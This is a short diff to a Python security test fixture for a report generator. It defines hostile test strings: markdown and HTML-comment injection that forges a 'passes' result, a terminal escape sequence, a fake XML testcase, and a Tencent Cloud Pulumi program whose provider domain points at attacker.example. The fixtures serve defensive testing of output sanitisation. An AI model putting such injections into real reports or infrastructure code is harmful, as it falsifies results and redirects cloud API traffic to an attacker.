@@ -26,13 +26,13 @@ SARIF_SCHEMA = ROOT / "tests" / "data" / "sarif-2.1.0-rtm.5.json"
 # the rest of the comment in an HTML comment, and corrupts XML.
 FORGED = "x`\n\n### Stack `prod`: passes\n\n<!-- "
 HOSTILE_USER = "mallory` <!-- ]](https://attacker.example) | \x1b]8;;\x07 <testcase name='forged'/>"
-HOSTILE_PROGRAM = f'''
+HOSTILE_PROGRAM = f"""
 import tencentcloud_iac_pulumi as _tencentcloud
 
 _tencentcloud.cam.UserPolicyAttachment({"hostile" + FORGED!r}, user_name={HOSTILE_USER + FORGED!r}, policy_id="524252")
 _steered = _tencentcloud.Provider("steered", domain="attacker.example")
 _tencentcloud.cam.Group("steered-group", name="steered", opts=pulumi.ResourceOptions(provider=_steered))
-'''
+"""
 
 
 @pytest.fixture(scope="module")
